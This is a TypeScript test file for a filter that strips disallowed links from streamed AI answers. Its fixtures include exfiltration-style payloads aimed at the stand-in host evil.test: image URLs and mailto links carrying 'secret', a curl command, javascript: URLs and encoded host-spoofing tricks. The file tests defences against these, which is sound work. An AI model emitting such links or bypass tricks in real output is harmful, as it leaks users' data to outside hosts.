import { marked } from 'marked';
import fc from '../../random.ts';
import { describe, expect, it } from 'vitest';
import { createMarkerFilter } from '../../../server/answer/citations/stream-filter.ts';
import { createAddressFilter } from '../../../server/answer/safety/address-filter.ts';
import { guarded } from '../../../server/answer/safety/guard.ts';
import { AllowedAddresses } from '../../../server/answer/safety/hosts.ts';

function hosts(): AllowedAddresses {
  const allowed = new AllowedAddresses({
    pages: ['https://www.shop.test/returns', 'notes.pdf', 'https://www.shop.test/Lamp_(desk)'],
    known: new Set(['known.test']),
    listed: ['cdn.test', '*.docs.test'],
  });
  allowed.tell('Orders are at https://www.shop.test/orders?mine=1, and "https://known.test/track/7".');
  allowed.tell('Ask at https://evil.test/x.');
  return allowed;
}

function filtered(pieces: string[]): string {
  const filter = createAddressFilter(hosts());
  return pieces.map((piece) => filter.pass(piece)).join('') + filter.rest();
}

/** What is left of a model's text by the filter of addresses, and then by that of markers, none of which has a passage. */
function withoutMarkersIn(pieces: string[]): string {
  let shown = '';
  const answer = {
    get appended() {
      return shown.length;
    },
    textFrom: (from: number) => shown.slice(from),
  };
  const append = (piece: string): void => void (shown += piece);
  const filter = guarded(createMarkerFilter([], '', answer), [createAddressFilter(hosts())], append);
  for (const piece of pieces) append(filter.pass(piece));
  append(filter.rest());
  return shown;
}

const kept = [
  'Plain words, 3 < 4, a: b and [1]. The following: one.',
  'See [returns](https://www.shop.test/returns "Returns") and https://www.shop.test/returns#d, too.',
  'See **https://shop.test/returns/**, www.shop.test/returns[1]; [desk](https://www.shop.test/Lamp_(desk)), https://www.shop.test.',
  'Told: [orders](https://www.shop.test/orders?mine=1), https://known.test/track/7!',
  '![A lamp](https://www.shop.test/any.png "x") [![i](https://known.test/i.png)](https://www.shop.test/returns)',
  '请看https://www.shop.test/returns。谢谢',
  'See <https://www.shop.test/returns> and (https://cdn.test).',
  '![A lamp](https://cdn.test/lamp.png) [a][1]\n\n[1]: https://a.docs.test/b',
  'Relative [above](#above), [b]: returns are free, [1]: yes',
  '```md\n[a](other.html)\n```',
  'Mail [us](mailto:help@shop.test) or call [us](tel:+4912345), help@elsewhere.test.',
  'In code: `if (a < b) return c[1](x)`, `Map<string, number>`, x ? y : z',
  '<b>bold</b> <a href="https://cdn.test/x">x</a> <br/>',
  'Use `if (a <b && c == d) {`, ``<b title="`" id=x&y``: `x <y = 1`.',
  '```js\nfor (i = 0; i <n && a[i](b/c); i++) x = <T extends A = B>(y);\n```\nThen `i <n&1`.',
  '```html\n<input value=x data-y="a&b" \n```\n\nText\n\n```\na <b = c\n```',
  'HTTPS://WWW.shop.test/returns www.shop.test/returns shop, http, https://a.docs.test:8080/b',
  'According to [1]: 24:00 is closing. [Mon]: 9:00-17:00, [Tue]: 10:00/11:00\n- [x]: 12:30 lunch',
];

/** Relative to one of the pages: the reader is on another. */
const resolved: [text: string, shown: string][] = [
  ['[returns](/returns "Returns").', '[returns](https://www.shop.test/returns "Returns").'],
  [
    '[returns](returns), [a](./returns#d)',
    '[returns](https://www.shop.test/returns), [a](https://www.shop.test/returns#d)',
  ],
  [
    '[desk](Lamp_(desk)#x) [b](<Lamp_(desk)>)',
    '[desk](https://www.shop.test/Lamp_(desk)#x) [b](<https://www.shop.test/Lamp_(desk)>)',
  ],
  ['[home](/) [up](../returns)', '[home](https://www.shop.test/) [up](https://www.shop.test/returns)'],
  ['[a][b]\n\n[b]: returns\nmore', '[a][b]\n\n[b]: https://www.shop.test/returns\nmore'],
];

const removed: [text: string, shown: string][] = [
  ['See [this](https://evil.test/x) now.', 'See [this] now.'],
  ['See [this](https://evil.test/x(1) "a title") now.', 'See [this] now.'],
  ['![img](https://evil.test/p.png?q=secret) end', '![img] end'],
  ['[![i](https://evil.test/i.png)](https://evil.test)!', '[![i]]!'],
  ['Go to https://evil.test/a?b=c now', 'Go to … now'],
  ['Go to www.evil.test/a, now', 'Go to … now'],
  ['Go to <https://evil.test/a>.', 'Go to ….'],
  ['Text [a][b].\n\n[b]: https://evil.test/x "t"\nmore', 'Text [a][b].\n\n[b]\nmore'],
  ['<img src="https://evil.test/x.png"> and <a href=\'//evil.test\'>x</a>', '… and …x</a>'],
  [
    'http:<//evil.test/x and https:<img src=https://evil.test>//evil.test',
    'http:…//evil.test/x and https:…//evil.test',
  ],
  ['<!-- a://b www.evil.test -->', '<!-- a… … -->'],
  ['[a](<<//evil.test/x>) [b](<>https&#58;//evil.test/x)', '[a] [b]'],
  ['`curl https://evil.test/x` done', '`curl …` done'],
  ['[a](javascript:alert(1)) [b](data:text/html,x) [c](//evil.test/x)', '[a] [b] [c]'],
  ['[a](mailto:x@evil.test?body=secret)', '[a]'],
  ['_www.evil.test_ \\.www.evil.test', '_… \\.…'],
  ['[a](/[1]/evil.test/x) [a](/【1】/evil.test) <a href=/[1]/evil.test>', '[a] [a] …'],
  ['[a]: [1]//evil.test/x', '[a]'],
  [
    '[Note]: Hint: ask [us]: R&D: [1]: [2], [3]: [shop](https://www.shop.test/returns).',
    '[Note] Hint: ask [us] R&D: [1] [2], [3] [shop](https://www.shop.test/returns).',
  ],
  ['[a]: [9] //evil.test/x\n[b]: javascript:alert(1)', '[a] [9] //evil.test/x\n[b] javascript:alert(1)'],
  ['[a](//evil.test)(//evil.test/x) [a](//evil.test): //evil.test/x', '[a] (//evil.test/x) [a] : //evil.test/x'],
  ['[a](//evil.test):\\/\\/evil.test/x [a]:: //evil.test/x', '[a] :\\/\\/evil.test/x [a] : //evil.test/x'],
  ['ftp://www.shop.test/x', 'ftp…'],
  ['https://www.shop.test.&#104;ttps://evil.test/xhttps://evil.test\\/x', '…'],
  ['HTTPS://EVIL.TEST/x', '…'],
  ['[a](https://www.shop.test/logout) [b](https://www.shop.test/returns?q=secret) [c](/logout?x)', '[a] [b] [c]'],
  ['https://www.shop.test/other, www.shop.test/returns/2 <https://known.test/x>.', '… … ….'],
  ['https://www.shop.test/returns[9]/evil and https://www.shop.test/orders', '…]/evil and …'],
  ['[a][b]\n\n[b]: https://known.test/x\n<a href="https://www.shop.test/x">', '[a][b]\n\n[b]\n…'],
  ['[a](page.html) [b](../x) [c](./x "t") [d](?q=secret) [e](page%2ehtml)!', '[a] [b] [c] [d] [e]!'],
  ['[a](page.html(1)) [b](x/(y)z) [c](<page one.html>)', '[a] [b] [c]'],
  ['[log out](logout), see[1](oak) and `c[1](x)`', '[log out] (logout), see[1] (oak) and `c[1](x)`'],
  ['[a]: page.html\n[b]: logout "t"\n- [c]: x [9]', '[a] page.html\n[b] logout "t"\n- [c] x [9]'],
  ['<a href="page.html">x</a> <a href=logout>y</a> <form action="../x">', '…x</a> …y</a> …'],
  ['\\![a](https://known.test/x) [!](https://known.test/x) https://www.shop.test?q=1', '\\![a] [!] …'],
];

/** Each hides another host from a comparison that looks at the first letters alone. */
const hidden = [
  'https://www.shop.test@evil.test/x',
  'https://www.shop.test\\@evil.test/x',
  'https://www.shop.test.evil.test/x',
  'https://www.shop.test,x.evil.test/x',
  'https://www.shop.test。evil.test/x',
  'https://www.shop.test&period;evil.test/x',
  'https://www.shop.test\\.evil.test/x',
  'https://www.shop.test%2eevil.test/x',
  'https&#58;//evil.test/x',
  'https\\://evil.test/x',
  '&#104;ttps://evil.test/x',
  '//evil.test/x',
  '\\/\\/evil.test/x',
  'https://evil.test\\/x',
];

describe('the address filter', () => {
  it.each(kept)('leaves what leads to allowed hosts: %s', (text) => {
    expect(filtered([text])).toBe(text);
    expect(filtered(text.split(''))).toBe(text);
  });

  it.each(resolved)('gives the whole address of the page in %s', (text, shown) => {
    expect(filtered([text])).toBe(shown);
    expect(filtered(text.split(''))).toBe(shown);
  });

  it.each(removed)('takes the address out of %s', (text, shown) => {
    expect(filtered([text])).toBe(shown);
    expect(filtered(text.split(''))).toBe(shown);
  });

  it.each(hidden)('is not misled by %s', (address) => {
    for (const text of [`[a](${address})`, `![a](<${address}>)`, `[a]:\n ${address}`, `<img src="${address}">`]) {
      for (const pieces of [[text], text.split('')]) expect(filtered(pieces), text).not.toMatch(/evil/);
    }
  });

  const cutting = fc.array(fc.nat(400), { maxLength: 12 });
  const cut = (text: string, cuts: number[]): string[] => {
    const at = [...new Set(cuts.map((one) => one % (text.length + 1)))].toSorted((a, b) => a - b);
    return [...at, text.length].map((end, i) => text.slice(at[i - 1] ?? 0, end));
  };
  const parts = [...kept, ...[...resolved, ...removed].map(([text]) => text), ...hidden];

  it('shows the same however the text is cut', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 4 }), cutting, (some, cuts) => {
        const text = some.join('\n\n');
        expect(filtered(cut(text, cuts))).toBe(filtered([text]));
      }),
      { numRuns: 1000 },
    );
  });

  it('lets no relative address of another page through, whatever stands before it', () => {
    const signs = ['](', ']: ', '](<', '(', '\n', ' ', ')', ']', '"', '<a href=', '>', '[', '[9]', '```\n'];
    const secrets = ['secret.html', '../secret', './secret', 'a/secret?q', '?secret', 'a(b)secret.html'];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...secrets, ...secrets, ...signs, ...kept), { maxLength: 8 }),
        cutting,
        (some, cuts) => {
          const shown = withoutMarkersIn(cut(some.join(''), cuts));
          marked.walkTokens(marked.lexer(shown), (token) => {
            if (token.type === 'link' && !/^(?:https?|mailto):/.test(token.href))
              expect(token.href, shown).not.toContain('secret');
          });
        },
      ),
      { numRuns: 3000 },
    );
  });

  it('lets no other host through, whatever stands before it', () => {
    const signs = [
      '](',
      ']:',
      '<',
      '](<',
      '(',
      '\n',
      ' ',
      'www',
      '://',
      ')',
      ']',
      '"',
      'h',
      'https',
      ':',
      '/',
      '<a href=',
      '>',
      '[',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts, ...signs), { maxLength: 8 }), cutting, (some, cuts) => {
        const text = some.join('');
        const shown = filtered(cut(text, cuts));
        expect(shown).not.toMatch(
          /https?:\/\/evil|www\.evil|\][(:]\s*<?(?:\\?\/){2}evil|\]\(\s*<?[^)\s]*[:&\\][^)\s]*evil/i,
        );
      }),
      { numRuns: 3000 },
    );
  });

  it.each(['[a]【9】(//evil.test/x)', '[a] [9](//evil.test/x)', '[a]【9】: //evil.test/x', 'https:[9]//evil.test/x'])(
    'shows no link where a marker is removed from %s',
    (text) => {
      for (const pieces of [[text], text.split('')]) expect(withoutMarkersIn(pieces)).not.toMatch(/\][(:]|https:\/\//);
    },
  );

  it.each([
    '<[9]img src=//evil.test/x>',
    '<[9] img src=/\\evil.test/x>',
    '< 【9】a href=/\\evil.test>',
    '<[^9]/a><[9]!-- -->',
    '<javascript[9]:alert(1)>',
    '<mailto[9]:a@evil.test>',
    '<a <[9] href=/\\evil.test>',
  ])('makes no tag where a marker is removed from %s', (text) => {
    for (const pieces of [[text], text.split('')])
      expect(withoutMarkersIn(pieces)).not.toMatch(/<(?:\/?a|img|!)[ >-]|<\w+:/);
  });

  it.each([
    `<a ${'x'.repeat(500)} href=/\\evil.test>`,
    '<a < href=/\\evil.test>',
    '<a <b < href=/\\evil.test>',
    '<a title=">" href=/\\evil.test>',
    `<a id='"' title=">" href=/\\evil.test>`,
  ])('shows no tag that ends behind what looks like its end: %s', (text) => {
    for (const pieces of [[text], text.split('')]) expect(filtered(pieces)).not.toMatch(/<[a-z]/);
  });

  describe('shows no tag as code that a reader of Markdown takes for one', () => {
    const evil = '<img src=/\\evil.test>';
    function expectNoTag(pieces: string[]): void {
      const shown = withoutMarkersIn(pieces);
      marked.walkTokens(marked.lexer(shown), (token) => {
        if (token.type === 'html') expect(token.raw, shown).not.toContain('evil');
      });
    }

    it.each([
      `- \`\n- \` x \` ${evil} \``,
      `\`\`\`js\n\`\`\`\t\n\`\`\`\n${evil}`,
      `\`\r<!--${evil}\``,
      `<div>\n\`\`\`\n${evil}\n\`\`\``,
      `<?\n\`${evil}\``,
      `\`[9]\`\`\n${evil}\n\`\`\``,
      `\`${evil}[9]${evil}\` [9]\`x`,
      `a \`${evil}[9]\\\`\`【9】\``,
      `> \`\`\`\n${evil}`,
      `- a\n  \`\`\`\n\n${evil}`,
      `|a|b|\n|-|-|\n| \`a | ${evil} \` |`,
      `\`${evil} [x](https://evil.test/\` )`,
      `\\\`${evil}\``,
    ])('%s', (text) => {
      expectNoTag([text]);
      expectNoTag(text.split(''));
    });

    it('whatever stands around it', () => {
      const fences = ['\n```\n', '\n```js\n', '~~~\n', '\n', '\n\n', '\n> ', '\n- ', '\n|-|-|\n', ' ', '|'];
      const others = [
        '[9]',
        '【9】',
        '<div>',
        '<!--',
        '<?',
        '<b ',
        '>',
        '\\',
        'a',
        '](',
        ')',
        '](https://evil.test/',
        ']: ',
      ];
      const part = fc.constantFrom(evil, evil, evil, '`', '``', ...fences, ...others);
      fc.assert(
        fc.property(fc.array(part, { minLength: 2, maxLength: 14 }), cutting, (some, cuts) =>
          expectNoTag(cut(some.join(''), cuts)),
        ),
        { numRuns: 3000 },
      );
    });
  });

  it('holds nothing back of text without addresses', () => {
    const filter = createAddressFilter(hosts());
    for (const piece of ['The ', 'price is', ' 3', '.\n', '- item', ' [', '1']) expect(filter.pass(piece)).toBe(piece);
  });

  it('ends a host, a destination or a tag that never ends', () => {
    for (const start of ['https://', '[a](', '<a href="']) {
      const filter = createAddressFilter(hosts());
      const shown = Array.from({ length: 300 }, () => filter.pass(`${start}evil.test-`)).join('') + filter.rest();
      expect(shown).not.toContain('://evil');
    }
  });
});
